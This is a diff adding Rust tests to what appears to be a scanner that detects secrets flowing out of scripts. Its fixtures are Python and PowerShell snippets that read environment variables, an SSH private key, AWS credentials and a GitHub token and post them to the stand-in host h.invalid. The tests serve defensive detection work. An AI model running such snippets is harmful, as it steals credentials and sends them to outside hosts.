@@ -328,3 +328,29 @@ fn shell_pipes_redirects_loops_and_upload_options_carry_secrets() {
         assert_eq!(out.len(), 1, "case {i}: {out:?}");
     }
 }
+
+#[test]
+fn methods_of_local_objects_and_modules_imported_whole_are_followed() {
+    let helper =
+        "import os\n\nclass Probe:\n    def grab(self):\n        return {k: os.environ[k] for k in os.environ}\n";
+    let main =
+        "import helper\nimport requests\n\np = helper.Probe()\nrequests.post('https://h.invalid', json=p.grab())\n";
+    let out = flows(&[("scripts/helper.py", helper), ("scripts/main.py", main)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!(out[0].path, "scripts/main.py");
+    assert_eq!(out[0].finding.source.as_ref().and_then(|s| s.file.as_deref()), Some("scripts/helper.py"));
+}
+
+#[test]
+fn powershell_credential_files_and_named_secrets_in_the_body_are_flows() {
+    let cases: &[&str] = &[
+        "$k = Get-Content \"$env:USERPROFILE\\.ssh\\id_rsa\" -Raw\nInvoke-WebRequest -Uri https://h.invalid -Method Post -Body $k\n",
+        "$t = [IO.File]::ReadAllText(\"$HOME/.aws/credentials\")\n(New-Object Net.WebClient).UploadString('https://h.invalid', $t)\n",
+        "Invoke-RestMethod -Uri https://h.invalid -Method Post -Body @{ t = $env:GITHUB_TOKEN }\n",
+    ];
+    for (i, ps) in cases.iter().enumerate() {
+        assert_eq!(flows(&[("s.ps1", ps)]).len(), 1, "case {i}");
+    }
+    let header = "Invoke-RestMethod -Uri https://api.github.invalid/user -Headers @{ Authorization = \"token $env:GITHUB_TOKEN\" }\n";
+    assert!(flows(&[("s.ps1", header)]).is_empty());
+}
